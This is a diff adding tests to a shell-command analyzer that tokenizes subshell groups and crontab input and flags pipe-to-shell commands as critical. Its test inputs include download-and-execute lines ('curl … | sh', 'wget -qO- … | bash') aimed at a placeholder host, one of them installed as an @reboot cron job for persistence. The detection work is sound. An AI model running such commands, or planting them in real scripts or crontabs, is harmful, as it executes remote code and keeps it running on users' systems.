@@ -101,3 +101,14 @@ test('containers: image, mounts, environment, privileges', () => {
   // The command a container is told to run is read too.
   expect(kinds('docker run --rm python:3.11 bash -c "curl -s https://x.invalid/a | sh"')).toEqual(['pipe-to-shell:critical:1']);
 });
+
+test('a ( … ) group closes after a quoted word: what it pipes out is read without the parenthesis', () => {
+  const [line] = tokenizeShell('(crontab -l; echo "0 3 * * * date") | crontab -');
+  expect(line?.pipelines.map((p) => p.commands.map((c) => c.words.map((w) => w.text)))).toEqual([[['crontab', '-l']], [['echo', '0 3 * * * date'], ['crontab', '-']]]);
+  // Outside a group a `)` is part of the word, as the shell would reject or read it.
+  expect(tokenizeShell('echo "a")')[0]?.pipelines[0]?.commands[0]?.words.map((w) => w.text)).toEqual(['echo', 'a)']);
+  // Cron runs each schedule line's command; comments, variable settings and the times are not commands.
+  expect(kinds('(crontab -l; echo "@reboot wget -qO- https://x.invalid/c | bash") | crontab -')).toEqual(['pipe-to-shell:critical:1']);
+  expect(kinds('crontab - <<EOF\nMAILTO=""\n# nightly\n*/5 * * * * curl -s https://x.invalid/c | sh\nEOF\n')).toEqual(['pipe-to-shell:critical:1']);
+  expect(kinds('(crontab -l; echo "0 3 * * * find /tmp/x -mtime +7 -delete") | crontab -')).toEqual([]);
+});
